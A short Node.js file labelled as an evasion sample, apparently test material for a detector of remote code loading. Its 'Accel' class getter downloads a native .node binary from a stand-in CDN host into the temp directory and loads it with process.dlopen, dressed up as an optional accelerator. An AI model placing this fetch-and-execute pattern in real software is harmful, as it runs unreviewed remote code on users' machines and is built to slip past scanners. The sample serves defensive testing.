// Evasion: loads native code. A class getter downloads a prebuilt .node file
// into the temp directory and loads it with process.dlopen (not require), the
// way a lazily initialised "accelerator" would.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

class Accel {
  get binding() {
    if (!this._b) {
      const file = path.join(os.tmpdir(), 'accel-' + process.arch + '.node');
      if (!fs.existsSync(file)) {
        const buf = execFileSync(process.execPath, ['-e',
          'fetch(process.argv[1]).then(r=>r.arrayBuffer()).then(b=>process.stdout.write(Buffer.from(b)))',
          'https://prebuilt.example-cdn.com/accel/' + process.arch + '.node']);
        fs.writeFileSync(file, buf);
      }
      const m = { exports: {} };
      process.dlopen(m, file);
      this._b = m.exports;
    }
    return this._b;
  }
}

console.log(Object.keys(new Accel().binding));
